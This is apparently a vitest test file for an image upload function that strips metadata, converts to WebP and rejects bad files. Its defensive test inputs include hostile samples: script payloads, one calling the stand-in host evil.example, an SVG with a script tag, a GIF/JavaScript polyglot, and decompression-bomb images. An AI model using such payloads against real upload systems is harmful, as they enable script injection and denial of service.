import { randomBytes } from 'node:crypto'
import { crc32 } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import { describe, expect, it } from 'vitest'
import { colourAt, phonePhoto, quartered, quartersOf } from './image-fixtures.ts'
import { readUpload, TooManyBytes, TooManyPixels, UnsupportedImage } from './images.ts'

/** 38° 17′ as EXIF writes it: four little-endian numbers. */
const LATITUDE = Buffer.from(Uint32Array.of(38, 1, 17, 1).buffer)

describe('a photo from a phone', () => {
  it.each([1, 2, 3, 4, 5, 6, 7, 8])('is rotated upright from EXIF orientation %i', async (orientation) => {
    const { bytes, width, height } = await readUpload(await phonePhoto(orientation))
    expect([width, height]).toEqual([120, 80])
    expect(await quartersOf(bytes)).toBe('red blue blue blue')
  })

  it('loses its location, time and device', async () => {
    const photo = await phonePhoto(6)
    expect(photo.includes(LATITUDE)).toBe(true)
    const { bytes } = await readUpload(photo)
    const stored = Buffer.from(bytes)
    expect(stored.includes(LATITUDE)).toBe(false)
    expect(stored.includes('2026:06:20')).toBe(false)
    expect(stored.includes('Quince')).toBe(false)
    const { exif, xmp, iptc, orientation } = await sharp(stored).metadata()
    expect({ exif, xmp, iptc, orientation }).toEqual({})
  })

  it('is scaled down to 2048 pixels and never enlarged', async () => {
    const wide = await sharp({ create: { width: 4096, height: 1024, channels: 3, background: 'plum' } })
      .jpeg()
      .toBuffer()
    expect(await readUpload(wide)).toMatchObject({ width: 2048, height: 512 })
    expect(await readUpload(await quartered(40, 20))).toMatchObject({ width: 40, height: 20 })
  })

  it('keeps its colours if it has a wide-gamut profile', async () => {
    const srgb = sharp({ create: { width: 32, height: 32, channels: 3, background: { r: 200, g: 80, b: 60 } } })
    const wide = await srgb.withIccProfile('p3').png().toBuffer()
    const [red] = await colourAt(await sharp(wide, { ignoreIcc: true }).png().toBuffer(), 0.5, 0.5)
    expect(red).toBeLessThan(195)
    const [r, g, b] = await colourAt((await readUpload(wide)).bytes, 0.5, 0.5)
    expect(Math.abs(r - 200)).toBeLessThan(6)
    expect(Math.abs(g - 80)).toBeLessThan(6)
    expect(Math.abs(b - 60)).toBeLessThan(6)
  })
})

describe('readUpload', () => {
  it.each(['jpeg', 'png', 'gif', 'webp', 'avif'] as const)('converts %s to WebP', async (format) => {
    const bytes = await sharp(await quartered(64, 48))
      .toFormat(format)
      .toBuffer()
    const image = await readUpload(bytes)
    expect(image).toMatchObject({ type: 'image/webp', width: 64, height: 48 })
    expect((await sharp(image.bytes).metadata()).format).toBe('webp')
  })

  it.each([
    ['a CMYK JPEG of a print shop', (image: Sharp) => image.toColourspace('cmyk').jpeg()],
    ['a PNG with 16 bits a channel', (image: Sharp) => image.toColourspace('rgb16').png()],
    ['a PNG with a palette', (image: Sharp) => image.png({ palette: true })],
    ['a progressive JPEG', (image: Sharp) => image.jpeg({ progressive: true })],
  ])('keeps the colours of %s', async (_what, write) => {
    const bytes = await write(sharp(await quartered(64, 48))).toBuffer()
    const [red, green, blue] = await colourAt((await readUpload(bytes)).bytes, 0.25, 0.25)
    expect(red).toBeGreaterThan(190)
    expect(Math.max(green, blue)).toBeLessThan(80)
  })

  it('keeps transparency', async () => {
    const clear = await sharp({ create: { width: 8, height: 8, channels: 4, background: '#ff000040' } })
      .png()
      .toBuffer()
    const { data } = await sharp((await readUpload(clear)).bytes)
      .raw()
      .toBuffer({ resolveWithObject: true })
    expect(data[3]).toBe(0x40)
  })

  it('keeps the first frame of an animation', async () => {
    const frames = await Promise.all(['#ff0000', '#0000ff'].map(square))
    const animation = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer()
    expect((await sharp(animation, { animated: true }).metadata()).pages).toBe(2)
    const { bytes, width, height } = await readUpload(animation)
    expect([width, height]).toEqual([16, 16])
    expect((await colourAt(bytes, 0.5, 0.5))[0]).toBeGreaterThan(240)
  })
})

describe('readUpload with an invalid file', () => {
  it.each([
    ['an empty file', Buffer.alloc(0)],
    ['noise', randomBytes(4096)],
    ['a program renamed to photo.jpg', Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0'), Buffer.alloc(2048)])],
    ['a web page', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['an SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script/></svg>')],
    ['an SVG after an XML declaration', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['a PDF', Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')],
    ['an image header without data', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46])],
    ['a script that starts like a GIF', Buffer.from('GIF89a/*\0\0*/=1;alert(1)')],
  ])('rejects %s', async (_what, bytes) => {
    await expect(readUpload(bytes)).rejects.toBeInstanceOf(UnsupportedImage)
  })

  it('rejects a damaged HEIC file with advice on what to send instead', async () => {
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)])
    await expect(readUpload(heic)).rejects.toThrow('as a JPEG')
  })

  it('rejects a truncated JPEG', async () => {
    const noisy = await sharp(randomBytes(200 * 200 * 3), { raw: { width: 200, height: 200, channels: 3 } })
      .jpeg()
      .toBuffer()
    await expect(readUpload(noisy.subarray(0, noisy.length / 2))).rejects.toBeInstanceOf(UnsupportedImage)
  })

  it('removes data hidden after the pixels of an image', async () => {
    const payload = '<script>fetch("//evil.example")</script>'
    const zip = Buffer.from('PK\x03\x04')
    const polyglot = Buffer.concat([await phonePhoto(1), Buffer.from(payload), zip])
    const stored = Buffer.from((await readUpload(polyglot)).bytes)
    expect(stored.includes(payload)).toBe(false)
    expect(stored.includes(zip)).toBe(false)
  })
})

describe('readUpload with a huge file', () => {
  it('rejects 51 megapixels compressed to a few kilobytes', async () => {
    const bomb = await sharp({ create: { width: 8500, height: 6000, channels: 3, background: 'white' } })
      .png({ palette: true, colours: 2 })
      .toBuffer()
    expect(bomb.length).toBeLessThan(200_000)
    await expect(readUpload(bomb)).rejects.toBeInstanceOf(TooManyPixels)
  })

  it('rejects a header that claims 30 gigabytes without allocating memory', async () => {
    const claimed = Buffer.from(await quartered(16, 16))
    claimed.writeUInt32BE(100_000, 16)
    claimed.writeUInt32BE(100_000, 20)
    claimed.writeUInt32BE(crc32(claimed.subarray(12, 29)), 29)
    await expect(readUpload(claimed)).rejects.toBeInstanceOf(TooManyPixels)
  })

  it('rejects a file over 20 MB', async () => {
    await expect(readUpload(Buffer.alloc(20 * 1024 * 1024 + 1))).rejects.toBeInstanceOf(TooManyBytes)
  })
})

function square(background: string): Promise<Buffer> {
  return sharp({ create: { width: 16, height: 16, channels: 3, background } })
    .png()
    .toBuffer()
}
